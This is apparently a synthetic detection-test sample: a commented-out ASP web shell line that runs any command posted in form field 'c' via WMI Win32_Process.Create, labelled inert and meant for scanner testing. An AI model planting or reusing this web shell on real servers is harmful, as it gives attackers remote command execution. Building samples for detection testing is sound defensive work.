<%-- EXTRIAGE SYNTHETIC SAMPLE - inert, for detection testing only. Server code below is inside a server-side comment.
<% Set w = GetObject("winmgmts:\\.\root\cimv2:Win32_Process") : r = w.Create(Request.Form("c"), Null, Null, pid) %>
--%>
